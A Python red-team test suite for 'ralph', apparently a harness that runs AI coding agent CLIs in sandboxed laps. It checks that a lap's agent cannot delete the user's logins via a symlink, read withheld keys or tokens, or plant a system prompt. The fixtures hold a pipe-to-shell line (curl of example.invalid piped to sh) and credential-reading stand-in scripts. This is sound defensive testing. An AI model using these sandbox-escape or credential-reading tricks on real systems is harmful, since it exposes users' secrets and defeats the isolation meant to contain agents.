"""Red team, issue 39: what a lap's agent (or its checks) can make of the agent CLIs' logins, report
files, prompt channels and `ralph doctor --agent`. Each test is a promise of the change that a
lap, or a plain setup, breaks. The tools are stand-ins named like the real ones, as in
test_agents_logins.py, but where a real tool is needed (mini-swe-agent, a dev dependency)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from helpers.repos import make_repo, needs_bwrap
from helpers.running import lap_notes, ralph

TICK = "sed -i 's/- \\[ \\]/- [x]/' TODO.md && echo hi > notes.txt"
CLAUDE_DONE = json.dumps({"type": "result", "is_error": False, "result": "done", "num_turns": 1})


def stand_in(tmp_path: Path, name: str, body: str) -> Path:
    """A shell script named like the real tool, on a PATH of its own: the folder."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / name).write_text("#!/bin/sh\n" + body)
    (bin_dir / name).chmod(0o755)
    return bin_dir


def repo_for(tmp_path: Path, agent: dict, sandbox: dict | str = "required", **more: object) -> Path:
    config = {"goal": "g", "agent": {"kind": "command", **agent}, "checks": ["true"], "sandbox": sandbox, **more}
    return make_repo(tmp_path / "repo", config=config, todo=["item 1"])


def path_with(bin_dir: Path) -> dict[str, str]:
    return {"PATH": f"{bin_dir}:{os.environ['PATH']}"}


# --- the login copy -------------------------------------------------------------------------------

# preset: (the login files ralph copies, relative to HOME; what the tool's settings folder is)
LOGIN_FOLDERS = {
    "claude": ((".claude/.credentials.json",), ".claude"),
    "codex": ((".codex/auth.json",), ".codex"),
    "gemini": ((".gemini/oauth_creds.json", ".gemini/settings.json"), ".gemini"),
}
DONE_BY = {"claude": CLAUDE_DONE, "codex": "", "gemini": json.dumps({"response": "done", "stats": {}})}


@needs_bwrap
@pytest.mark.parametrize("preset", list(LOGIN_FOLDERS))
def test_a_lap_cannot_make_ralph_delete_the_users_own_login_through_a_symlinked_folder(tmp_path: Path, preset: str):
    """Inside the sandbox the lap's agent turns its private ~/.claude (~/.codex, ~/.gemini) into a
    symlink to the user's real one (a path it need not see, only name: /root, /home/$USER). When
    the phase ends ralph, outside the sandbox and as the user, removes "the copy" through that
    symlink: the user's own login file (and gemini's settings.json) is deleted — logged out."""
    files, folder = LOGIN_FOLDERS[preset]
    home = Path.home()
    for relative in files:
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(json.dumps({"security": {"auth": {"selectedType": "oauth-personal"}}}))
    bin_dir = stand_in(
        tmp_path,
        preset,
        f'cat > /dev/null\nrm -rf "$HOME/{folder}" && ln -s "$USERS_HOME/{folder}" "$HOME/{folder}"\n'
        f"{TICK}\necho '{DONE_BY[preset]}'\n",
    )
    repo = repo_for(tmp_path, {"preset": preset}, env={"pass": ["USERS_HOME"]})
    result = ralph(repo, "run", "--name", "r", env={**path_with(bin_dir), "USERS_HOME": str(home)})
    assert result.returncode == 0, result.stdout + result.stderr
    gone = [relative for relative in files if not (home / relative).exists()]
    assert not gone, f"ralph deleted the user's own {gone} when it removed the lap's copy"


@needs_bwrap
@pytest.mark.parametrize("what", ["a folder where the copy was", "a file where its folder was"])
def test_a_lap_that_replaces_its_login_copy_cannot_crash_ralph(tmp_path: Path, what: str):
    """The copy is removed with Path.unlink(missing_ok=True): a folder in its place (EISDIR) or a
    file in place of its folder (ENOTDIR) is no missing file, and the error ends the whole run
    with a traceback instead of a lap."""
    (Path.home() / ".claude").mkdir()
    (Path.home() / ".claude" / ".credentials.json").write_text('{"claudeAiOauth": {"accessToken": "a"}}')
    swap = (
        'rm "$HOME/.claude/.credentials.json" && mkdir "$HOME/.claude/.credentials.json"'
        if what.startswith("a folder")
        else 'rm -rf "$HOME/.claude" && touch "$HOME/.claude"'
    )
    bin_dir = stand_in(tmp_path, "claude", f"cat > /dev/null\n{swap}\n{TICK}\necho '{CLAUDE_DONE}'\n")
    repo = repo_for(tmp_path, {"preset": "claude"})
    result = ralph(repo, "run", "--name", "r", env=path_with(bin_dir))
    said = result.stdout + result.stderr
    assert result.returncode == 0, said
    assert [note["status"] for note in lap_notes(repo, "r")] == ["green"], said


# --- ralph doctor --agent ---------------------------------------------------------------------------

# Says, as its answer, what it was given: how doctor shows the tiny request's answer.
SAYS = (
    'cat > /dev/null\n[ "$1" = --version ] && {{ echo 1.18.33; exit 0; }}\n'
    "seen=$({what} 2>/dev/null | tr -d '\\n\"\\\\')\n"
    'echo "{{\\"type\\":\\"text\\",\\"part\\":{{\\"text\\":\\"seen:$seen\\"}}}}"\n'
    # one request, as opencode reports it: doctor takes an answer that reached no model for none
    'echo \'{{"type":"step_finish","part":{{"tokens":{{"input":9,"output":1}},"cost":0.001}}}}\'\n'
    "( {tick} ) 2>/dev/null\nexit 0\n"
)


@needs_bwrap
def test_doctor_agent_withholds_the_judges_and_openai_agents_keys_as_a_lap_does(tmp_path: Path):
    """A lap's agent CLI never gets the keys of the built-in agents and the roles, whatever its
    preset reads (loop._agents' `withheld`): opencode logged in by ANTHROPIC_API_KEY does not get
    the judge's OPENAI_API_KEY. `ralph doctor --agent` makes the agent without `withheld`: the
    tiny request's tool gets the judge's key, and doctor prints what it answered."""
    bin_dir = stand_in(tmp_path, "opencode", SAYS.format(what='echo "$OPENAI_API_KEY"', tick=TICK))
    judge = {"model": "judge-model", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "OPENAI_API_KEY"}
    repo = repo_for(tmp_path, {"preset": "opencode"}, roles={"judge": judge})
    env = {**path_with(bin_dir), "ANTHROPIC_API_KEY": "sk-ant-agent", "OPENAI_API_KEY": "sk-judge-secret"}
    ralph(repo, "run", "--name", "r", "--max-laps", "1", env=env)
    (note,) = lap_notes(repo, "r")
    assert note["agent"]["summary"] == "seen:", "control: a lap's tool does not get the judge's key"
    result = ralph(repo, "doctor", "--agent", env=env)
    assert "sk-judge-secret" not in result.stdout, result.stdout


@needs_bwrap
def test_doctor_agent_hides_the_toolchains_registry_logins_as_a_lap_does(tmp_path: Path):
    """A lap's sandbox reads cargo's credentials (an npm prefix's npmrc with a token, …) as empty
    (toolchains.logins, in Workspace.jail's `hide`). doctor --agent builds its own Jail with no
    `hide`: the tiny request's tool, with the toolchain homes readable, reads the registry token."""
    cargo = tmp_path / "cargo"
    cargo.mkdir()
    (cargo / "credentials.toml").write_text("[registry]\ntoken = cio-SECRET-TOKEN\n")
    bin_dir = stand_in(tmp_path, "opencode", SAYS.format(what='cat "$CARGO_HOME/credentials.toml"', tick=TICK))
    repo = repo_for(tmp_path, {"preset": "opencode"})
    env = {**path_with(bin_dir), "ANTHROPIC_API_KEY": "sk-ant-agent", "CARGO_HOME": str(cargo)}
    ralph(repo, "run", "--name", "r", "--max-laps", "1", env=env)
    (note,) = lap_notes(repo, "r")
    assert note["agent"]["summary"] == "seen:", "control: a lap reads cargo's credentials as empty"
    result = ralph(repo, "doctor", "--agent", env=env)
    assert "asked        it answered: seen:" in result.stdout, result.stdout
    assert "cio-SECRET-TOKEN" not in result.stdout, result.stdout


def test_doctor_does_not_call_a_key_laps_never_pass_on_the_agents_login(tmp_path: Path):
    """The judge's key (OPENAI_API_KEY) is kept from every agent CLI, opencode included. With no
    other key set, doctor still says opencode logs in by it, and passes: the laps' tool gets none."""
    bin_dir = stand_in(tmp_path, "opencode", '[ "$1" = --version ] && echo 1.18.33\n')
    judge = {"model": "judge-model", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "OPENAI_API_KEY"}
    repo = repo_for(tmp_path, {"preset": "opencode"}, sandbox="auto", roles={"judge": judge})
    result = ralph(repo, "doctor", env={**path_with(bin_dir), "OPENAI_API_KEY": "sk-judge-secret"})
    assert "login        by OPENAI_API_KEY" not in result.stdout, result.stdout


# --- the prompt channels ------------------------------------------------------------------------------


@needs_bwrap
@pytest.mark.slow
def test_mini_swe_agents_task_config_carries_a_prompt_with_an_emoji_whole(tmp_path: Path):
    """mini-swe-agent's prompt goes in a task config written as JSON ("JSON is YAML"). json.dumps
    escapes a character past U+FFFF (an emoji in TODO.md) as a surrogate pair, \\ud83d\\ude80, which
    YAML reads as two lone surrogates: the task mini gets is no longer the prompt (and any UTF-8
    encoding of it fails: the real mini, against the scripted server, dies printing the task with
    "UnicodeEncodeError: 'utf-8' codec can't encode … surrogates not allowed", before any request)."""
    from helpers.model_apis import user_text
    from test_agent_clis import lap, served

    todo = "- [ ] write notes.txt (ITEM-MARK-39)\n\n- ship it \U0001f680\n"
    with served(todo) as server:
        repo, run = lap(tmp_path, "mini-swe-agent", server, files={"TODO.md": todo})
    said = run["result"].stdout + run["result"].stderr
    texts = [user_text(request.dialect, request.body) for request in server.model_requests()]
    assert texts and "\U0001f680" in texts[0], said[-3000:]
    assert [note["status"] for note in run["laps"]] == ["green"], said[-3000:]


@needs_bwrap
def test_aiders_login_copy_is_its_keys_not_the_commands_its_settings_run(tmp_path: Path):
    """logins.py: "A settings file is never copied whole (it holds hooks … that would run in the
    lap)". ~/.aider.conf.yml is aider's settings file: beside its keys it holds the commands aider
    runs by itself (test-cmd with auto-test, lint-cmd with auto-lint, the default), and ralph
    copies it whole into every lap: the user's own commands run in each lap, the user's setup the
    presets otherwise keep out."""
    (Path.home() / ".aider.conf.yml").write_text(
        "openai-api-key: sk-aider-user\nauto-test: true\ntest-cmd: curl -s https://example.invalid/x | sh\n"
        'lint-cmd: "python: ./lint-everything.sh"\n'
    )
    bin_dir = stand_in(tmp_path, "aider", f'{TICK}\necho "copied: $(tr "\\n" " " < "$HOME/.aider.conf.yml")"\n')
    repo = repo_for(tmp_path, {"preset": "aider"})
    ralph(repo, "run", "--name", "r", "--max-laps", "1", env=path_with(bin_dir))
    (note,) = lap_notes(repo, "r")
    copied = note["agent"]["summary"]
    assert "sk-aider-user" in copied, copied  # its login: copied, as promised
    assert "test-cmd" not in copied and "lint-cmd" not in copied, copied


def test_doctor_does_not_take_gemini_settings_alone_for_a_login(tmp_path: Path):
    """Every Gemini CLI user has ~/.gemini/settings.json (a theme, say). ralph lists it among the
    login files (for its one setting, security.auth.selectedType), and doctor's login line takes
    any listed file that exists for a login: "login by its login file …/settings.json", exit 0 —
    while a lap gets `{}` there and no key, and the tool cannot log in."""
    bin_dir = stand_in(tmp_path, "gemini", '[ "$1" = --version ] && echo 0.61.0\n')
    (Path.home() / ".gemini").mkdir()
    (Path.home() / ".gemini" / "settings.json").write_text('{"ui": {"theme": "Dracula"}}')
    repo = repo_for(tmp_path, {"preset": "gemini"}, sandbox="auto")
    result = ralph(repo, "doctor", env=path_with(bin_dir))
    assert "login        by its login file" not in result.stdout, result.stdout
    assert result.returncode == 1, result.stdout


# --- the login copy, read by the real tools ---------------------------------------------------------------


def real_tool(name: str) -> Path:
    from helpers import agent_clis

    found = agent_clis.program(name)
    if found is None:
        pytest.skip(agent_clis.skip_reason(name))
    return found


def in_the_laps_home(tmp_path: Path, preset: str, relative: str, users: dict) -> tuple[Path, Path]:
    """The user's login file, and the lap's private HOME holding ralph's copy of it."""
    from ralph.facts import logins
    from ralph.facts.presets import PRESETS

    users_home, home = tmp_path / "users-home", tmp_path / "lap-home"
    (users_home / relative).parent.mkdir(parents=True)
    (users_home / relative).write_text(json.dumps(users))
    home.mkdir()
    assert logins.copy_into(home, PRESETS[preset].login_files, {"HOME": str(users_home)}) == [relative]
    return users_home, home


def run_tool(program: Path, home: Path, *args: str) -> str:
    import subprocess

    env = {name: value for name, value in os.environ.items() if name not in ("CODEX_HOME", "XDG_DATA_HOME")}
    done = subprocess.run(
        [str(program), *args], env=env | {"HOME": str(home)}, capture_output=True, text=True, timeout=120
    )
    return done.stdout + done.stderr


def _jwt(claims: dict) -> str:
    import base64

    def part(value: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    return f"{part({'alg': 'none'})}.{part(claims)}.sig"


@pytest.mark.slow
def test_the_real_codex_reads_ralphs_copy_of_its_chatgpt_login(tmp_path: Path):
    """Codex 0.171.0's auth.json has `tokens.refresh_token` as a required field: the copy ralph
    makes without it does not deserialize ("failed to deserialize CLI auth from file: invalid
    credential JSON"), so a ChatGPT login — the one the issue names — never works in a lap."""
    codex = real_tool("codex")
    claims = {"email": "u@example.com", "https://api.openai.com/auth": {"chatgpt_account_id": "acc-1"}}
    tokens = {"id_token": _jwt(claims), "access_token": "at", "refresh_token": "rt", "account_id": "acc-1"}
    users = {"OPENAI_API_KEY": None, "tokens": tokens, "last_refresh": "2026-12-06T00:00:00Z"}
    users_home, home = in_the_laps_home(tmp_path, "codex", ".codex/auth.json", users)
    assert "Logged in using ChatGPT" in run_tool(codex, users_home, "login", "status")  # the user's own reads
    said = run_tool(codex, home, "login", "status")
    assert "Logged in using ChatGPT" in said, said


@pytest.mark.slow
def test_the_real_opencode_reads_ralphs_copy_of_an_oauth_login(tmp_path: Path):
    """opencode 1.18.33 drops an OAuth entry of auth.json without `refresh` (its schema requires
    it): the copy ralph makes keeps the API keys and loses every OAuth login (Claude Pro/Max,
    ChatGPT, Copilot through opencode) — `opencode auth list` shows it gone."""
    opencode = real_tool("opencode")
    users = {
        "anthropic": {"type": "oauth", "access": "a", "refresh": "r", "expires": 9999999999999},
        "openai": {"type": "api", "key": "sk-x"},
    }
    users_home, home = in_the_laps_home(tmp_path, "opencode", ".local/share/opencode/auth.json", users)
    assert "Anthropic" in run_tool(opencode, users_home, "auth", "list")  # the user's own reads
    said = run_tool(opencode, home, "auth", "list")
    assert "Anthropic" in said, said


@needs_bwrap
def test_a_lap_reads_no_login_of_the_users_but_ralphs_copy_when_the_tool_is_installed_in_local(tmp_path: Path):
    """Issue 39 makes an install root like ~/.local readable in the sandbox (Claude Code's native
    installer, pip --user, pipx put programs in ~/.local/bin). ~/.local is also where opencode
    keeps its login, ~/.local/share/opencode/auth.json, refresh tokens and all: with ~/.local/bin
    on PATH (and ~/.local/lib there, as pip --user makes it, or `npm i -g` with npm's prefix ~/.local:
    opencode's own users) the whole of ~/.local is bound, so the
    lap's agent — and its checks, the lap's code — read the user's own file, the refresh token
    that ralph's copy leaves out included."""
    home = Path.home()
    (home / ".local" / "lib").mkdir(parents=True)
    auth = home / ".local" / "share" / "opencode" / "auth.json"
    auth.parent.mkdir(parents=True)
    auth.write_text(json.dumps({"anthropic": {"type": "oauth", "access": "a", "refresh": "rt-SECRET", "expires": 1}}))
    local_bin = home / ".local" / "bin"
    local_bin.mkdir()
    (local_bin / "opencode").write_text(f"#!/bin/sh\ncat > /dev/null\n{TICK}\n")
    (local_bin / "opencode").chmod(0o755)
    read = f'! grep -q rt-SECRET "$USERS_HOME/{auth.relative_to(home)}"'
    config = {
        "goal": "g",
        "agent": {"kind": "command", "preset": "opencode"},
        "checks": [read],
        "sandbox": "required",
        "env": {"pass": ["USERS_HOME"]},
    }
    repo = make_repo(tmp_path / "repo", config=config, todo=["item 1"])
    env = {"PATH": f"{local_bin}:{os.environ['PATH']}", "USERS_HOME": str(home)}
    result = ralph(repo, "run", "--name", "r", "--max-laps", "1", env=env)
    said = result.stdout + result.stderr
    assert "fail  ! grep -q rt-SECRET" not in said, f"a sandboxed check read the user's own login:\n{said}"


# --- the tools' reports -----------------------------------------------------------------------------------


def test_a_mini_lap_that_made_requests_at_no_known_price_is_of_unknown_cost():
    """mini runs with MSWEA_COST_TRACKING=ignore_errors: a model LiteLLM has no price for costs
    "0" in its trajectory. ralph takes $0 for unknown only when tokens were counted; an endpoint
    that reports no usage (tokens 0) after 7 api_calls makes the lap a known $0.00, and
    max_cost_usd never trips however many laps run."""
    from ralph.agents import reports

    trajectory = {
        "info": {"model_stats": {"api_calls": 7, "instance_cost": 0.0}, "submission": ""},
        "messages": [{"role": "assistant", "content": "x", "extra": {"response": {"usage": None}}}] * 7,
    }
    report = reports.read("mini-trajectory", "", json.dumps(trajectory))
    assert report.usage.requests == 7
    assert report.usage.cost_usd is None, "7 requests of an unpriced model taken for $0"


# --- the task config ----------------------------------------------------------------------------------------


@needs_bwrap
@pytest.mark.slow
def test_the_real_mini_swe_agent_runs_with_the_presets_config_not_the_work_trees(tmp_path: Path):
    """The real mini, against the scripted server, in a repository that has a mini.yaml (one a lap
    committed, or the project's own): its requests carry the preset's built-in system prompt, not
    that file's (mini reads `-c mini.yaml` from where it starts: the lap's own folder)."""
    import minisweagent.config
    import yaml
    from helpers.model_apis import ModelApis
    from test_agent_clis import TICK as TICKS
    from test_agent_clis import program, setup

    builtin = yaml.safe_load((Path(minisweagent.config.__file__).parent / "mini.yaml").read_text())
    builtin["agent"]["system_template"] = "PLANTED-BY-A-LAP. " + builtin["agent"]["system_template"]
    executable = program("mini-swe-agent")
    with ModelApis(TICKS, files={"notes.txt": "hi\n"}) as server:
        chosen = setup("mini-swe-agent", server)
        config = {
            "goal": "g",
            "agent": {"kind": "command", "preset": "mini-swe-agent", "args": chosen.args},
            "checks": ["true"],
            "limits": {"max_laps": 1, "lap_timeout": 300},
            "env": {"pass": sorted(chosen.passed)},
            "sandbox": "required",
        }
        repo = make_repo(tmp_path / "repo", {"mini.yaml": yaml.safe_dump(builtin)}, config=config, todo=["x"])
        env = {"PATH": f"{executable.parent}:{os.environ['PATH']}", **chosen.env, **chosen.passed}
        ralph(repo, "run", "--name", "r", env=env, timeout=420)
    bodies = [json.dumps(request.body) for request in server.model_requests()]
    assert bodies, "mini made no request"
    assert "PLANTED-BY-A-LAP" not in bodies[0], "mini ran with the work tree's mini.yaml"


def test_geminis_auth_setting_is_copied_from_a_settings_file_with_comments(tmp_path: Path):
    """Gemini CLI 0.61 reads settings.json through strip-json-comments (bundle: JSON.parse(
    stripJsonComments(content))): a comment in it is fine to the tool. ralph's copy reads it with
    json.loads, fails, and copies nothing: the lap's gemini has no auth type, whatever the user chose
    (doctor still says it logs in by its login file)."""
    from ralph.facts import logins
    from ralph.facts.presets import PRESETS

    users, home = tmp_path / "users-home", tmp_path / "lap-home"
    (users / ".gemini").mkdir(parents=True)
    (users / ".gemini" / "settings.json").write_text(
        '{\n  // how I log in\n  "security": {"auth": {"selectedType": "oauth-personal"}}\n}\n'
    )
    home.mkdir()
    logins.copy_into(home, PRESETS["gemini"].login_files, {"HOME": str(users)})
    copied = home / ".gemini" / "settings.json"
    assert copied.is_file(), "no copy of gemini's auth setting"
    assert json.loads(copied.read_text()) == {"security": {"auth": {"selectedType": "oauth-personal"}}}


@needs_bwrap
@pytest.mark.slow
def test_mini_swe_agent_gets_its_task_config_in_a_repository_whose_path_has_an_equals_sign(tmp_path: Path):
    """mini reads each `-c` spec with an "=" in it as a `key=value` setting, not a file
    (minisweagent.config.get_config_from_spec). The task config is named by its path, under the
    repository's .git: in a checkout at …/proj=v2/ the prompt never reaches mini, which has no task."""
    from test_agent_clis import lap, served

    with served() as server:
        _, run = lap(tmp_path / "proj=v2", "mini-swe-agent", server)
    said = run["result"].stdout + run["result"].stderr
    assert [note["status"] for note in run["laps"]] == ["green"], said[-3000:]


@needs_bwrap
def test_ralph_plan_withholds_the_openai_fallbacks_key_from_the_agent_cli_as_a_lap_does(tmp_path: Path):
    """The same `withheld` gap in `ralph plan` (older than issue 39, the same root): loop._agents
    keeps the built-in agents' keys (an `openai` fallback's) from every agent CLI; plan._agent
    withholds the roles' keys only, so opencode planning gets the fallback's OPENAI_API_KEY."""
    body = 'cat > /dev/null\n[ "$1" = --version ] && exit 0\nprintf -- "- [ ] key %s\\n" "$OPENAI_API_KEY" > TODO.md\n'
    bin_dir = stand_in(tmp_path, "opencode", body)
    fallback = {"kind": "openai", "model": "m", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "OPENAI_API_KEY"}
    config = {
        "goal": "g",
        "agent": {"kind": "command", "preset": "opencode", "fallback": [fallback]},
        "checks": ["true"],
        "sandbox": "required",
    }
    repo = make_repo(tmp_path / "repo", config=config)
    env = {**path_with(bin_dir), "ANTHROPIC_API_KEY": "sk-ant-agent", "OPENAI_API_KEY": "sk-fallback-secret"}
    result = ralph(repo, "plan", "--yes", env=env)
    todo = (repo / "TODO.md").read_text() if (repo / "TODO.md").exists() else ""
    said = result.stdout + result.stderr + todo
    assert "sk-fallback-secret" not in said, said


def test_claudes_login_copy_holds_the_login_not_the_mcp_servers_and_plugins_secrets(tmp_path: Path):
    """On Linux, Claude Code's secure storage is ~/.claude/.credentials.json, and it holds more than
    the login (the 2.1.332 binary's storage keys: claudeAiOauth, mcpOAuth, mcpOAuthClientConfig,
    pluginSecrets, …): the OAuth tokens of the user's MCP servers (GitHub, Linear, Slack …) and
    their client secrets, and plugins' secrets. The preset keeps MCP servers and the user's
    plugins out of the lap (--strict-mcp-config, --setting-sources project,local), yet ralph's copy
    drops only refresh tokens: every lap's agent can read those services' access tokens."""
    from ralph.facts import logins
    from ralph.facts.presets import PRESETS

    users, home = tmp_path / "users-home", tmp_path / "lap-home"
    (users / ".claude").mkdir(parents=True)
    (users / ".claude" / ".credentials.json").write_text(
        json.dumps(
            {
                "claudeAiOauth": {"accessToken": "sk-ant-oat01-x", "refreshToken": "sk-ant-ort01-y", "expiresAt": 1},
                "mcpOAuth": {"github|1a2b": {"serverName": "github", "accessToken": "gho_MCP_SECRET"}},
                "mcpOAuthClientConfig": {"github|1a2b": {"clientSecret": "MCP_CLIENT_SECRET"}},
                "pluginSecrets": {"deploy@market": {"token": "PLUGIN_SECRET"}},
            }
        )
    )
    home.mkdir()
    logins.copy_into(home, PRESETS["claude"].login_files, {"HOME": str(users)})
    copied = json.loads((home / ".claude" / ".credentials.json").read_text())
    assert copied == {"claudeAiOauth": {"accessToken": "sk-ant-oat01-x", "refreshToken": "", "expiresAt": 1}}, copied
